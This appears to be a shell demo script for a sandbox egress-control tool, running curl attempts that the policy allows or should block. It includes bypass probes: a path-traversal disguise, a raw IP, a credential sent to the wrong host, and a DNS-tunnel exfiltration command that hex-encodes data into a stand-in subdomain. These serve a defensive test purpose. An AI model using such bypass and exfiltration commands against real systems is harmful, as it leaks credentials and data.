# What the demo runs in the sandbox: a shell and an unmodified curl, neither of which knows of exeat.
#
# Each `try` names an attempt, shows the command, runs it and says how it ended. @API@ and @DATAGRAMS@ are filled in when the
# demo starts.

# Quiet, patient for 5 s, and the status and the address on a line of their own.
cat >"$HOME/.curlrc" <<'CURLRC'
silent
show-error
max-time = 5
write-out = "\nHTTP %{response_code} %{remote_ip}\n"
CURLRC

try() {
    printf '\n## %s\n$ %s\n' "$1" "$2"
    eval "$2" 2>&1 </dev/null
    printf '\n== exit %s\n' "$?"
}

# The credential itself is not in here; a placeholder is, and to this script it is as good.
try placeholder 'printenv DEMO_API_KEY'
try bare        'curl https://api.example.com/v1/builds'
try allowed     'curl -H "Authorization: Bearer $DEMO_API_KEY" https://api.example.com/v1/builds'
try echo        'curl -i -H "Authorization: Bearer $DEMO_API_KEY" https://api.example.com/v1/echo'

# What the policy does not allow.
try host        'curl https://elsewhere.example.net/'
try method      'curl -X DELETE -H "Authorization: Bearer $DEMO_API_KEY" https://api.example.com/v1/builds/7'
try path        'curl -H "Authorization: Bearer $DEMO_API_KEY" https://api.example.com/v1/admin/users'
try disguise    'curl --path-as-is https://api.example.com/v1/builds/../%61dmin/users'

# A host that is allowed, but is not the credential'"'"'s.
try other       'curl https://files.example.com/notice.txt'
try misdirected 'curl -H "Authorization: Bearer $DEMO_API_KEY" https://files.example.com/notice.txt'

# Around the names, around TCP, and inside a name: the label below is "the payroll" in hex.
try address     'curl https://203.0.113.7/'
try loopback    'curl https://@API@/v1/builds'
try datagram    '@DATAGRAM_COMMAND@'
try tunnel      'curl https://$(printf "the payroll" | od -An -tx1 | tr -d " ").tunnel.example.net/'
